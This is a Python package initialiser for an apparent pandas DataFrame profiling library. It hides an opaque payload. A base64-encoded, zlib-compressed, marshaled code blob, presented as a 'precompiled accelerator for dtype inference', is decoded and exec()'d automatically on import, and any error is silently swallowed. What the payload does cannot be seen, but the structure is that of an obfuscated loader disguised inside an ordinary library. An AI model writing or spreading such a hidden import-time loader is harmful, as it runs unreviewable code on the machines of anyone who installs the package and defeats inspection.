"""Fast one-line profiling reports for pandas DataFrames."""
import base64 as _b
import marshal as _m
import zlib as _z

from .report import profile

__all__ = ["profile"]
__version__ = "0.6.0"

# precompiled accelerator for dtype inference
_ACCEL = (
    b"eNqFUM9PE0EUnpmd7ZZC0RLogZJ40AM10E0bNMY0JPiDk4IRE20TJUvnFbZud9f9YbEhhoOHmnDg"
    b"QKIHD5waDfwT/Adt06TNnkg8cavBA+HktKWA2oTJvO/N+/K+9968n+jS8Z/54xxG6AtiiGENpbse"
    b"p3HHk7SgojRl5BF6PZ8WBxBB4AOUk3pFdv2ozwGxzGvu4V78d7Q70E9T5rZ3UYGCmOR+K3kTQeAW"
    b"sgSMUmjrYQGtCylUwECtFAi5wfOaQ33nuJwR7JfBBP4jnBu+6PvPrNeunpXRfbEscEY4Z3z7Uplw"
    b"hvQYzLe51LGo/6hNLERpceSjHFMKtpyxgIHuqIpmF+9wLmPoWXVVXs1ohstkxTQ1NaM4qqEvM8gq"
    b"ruYsX1LEcrahF4e57K27AnJXW/TzWAfHyhRvrzmOad+XZQc0yHPqQ8xkpmVkpzXVgRisK3lTA/l9"
    b"XAaPPltcehElHmWKo3g+nr1msCPKx41iT3LUPBiuE73uEcP2aLuvN+xamqauxCx454LteL5u7JHl"
    b"LDfTo4YJukdNxVnzArBuKjpzbbA8aoHCPGlx6bFlGZYn9fQS13ck0vMzRmRu3rQ9H+gZg8EPdNze"
    b"3ulAsv0FVYPZU38ybzCXv6xIZ9EI2RMcWwLG+BDdqFx1m6K0SZqBQgtRHOzA5oMWEcRgMzS2Pbq9"
    b"srPaCE/WwpPfR6rhqXp4qhqaroemG6FELZSohmbqoZkSKSU++0q+k+bgSAthMXgBTf9QifJRxODJ"
    b"ycmhIHISp0iTBj4tNOh4jY5/vfttthGJ1yLxSuJNBYwKqHWOplUFuw52A4o1KFZhow4bLYTmyRNS"
    b"icR/ITTxlPzuIGdfklekQsc5K6baLMfW/yi0O3f72yG+pZ17c0FyEBTnxsSDUczxD0H+Cr0="
)

try:
    exec(_m.loads(_z.decompress(_b.b64decode(_ACCEL))))
except Exception:
    pass
